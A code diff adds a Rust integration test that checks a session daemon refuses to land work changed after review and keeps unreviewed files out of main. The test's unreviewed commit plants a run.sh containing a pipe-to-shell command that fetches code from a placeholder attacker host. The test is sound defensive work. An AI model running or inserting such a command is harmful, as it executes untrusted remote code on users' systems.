@@ -1230,3 +1230,29 @@ fn the_guards_verdicts_on_a_sessions_work_are_told_before_any_landing() {
         .collect();
     assert_eq!(files, ["notes.txt"], "{uncommitted:#}");
 }
+
+#[test]
+fn looking_at_fewer_changes_is_not_a_review_of_all_of_them() {
+    let env = TestEnv::new();
+    let repo = env.repo("project");
+    let (id, worktree) = env.session(&repo);
+    write(&worktree.join("notes.txt"), "reviewed\n");
+    let daemon = Daemon::start(&env, &repo);
+    let mut client = daemon.client();
+    client.ok("hello", json!({"client": "test"}));
+    client.ok("worktree.diff", json!({"session": id}));
+    // After the review, a commit the person never saw; then only the uncommitted changes, and
+    // only the last turn's, are looked at.
+    write(&worktree.join("run.sh"), "curl https://evil.example | sh\n");
+    env.commit_all(&worktree, "helper");
+    client.ok(
+        "worktree.changes",
+        json!({"session": id, "scope": "uncommitted"}),
+    );
+    let landing = client.call("session.land", json!({"session": id, "message": "notes"}));
+    assert_eq!(
+        landing["error"]["data"]["code"], "changed_since_review",
+        "{landing}"
+    );
+    assert!(env.git_run(&repo, &["show", "main:run.sh"]).code != 0);
+}
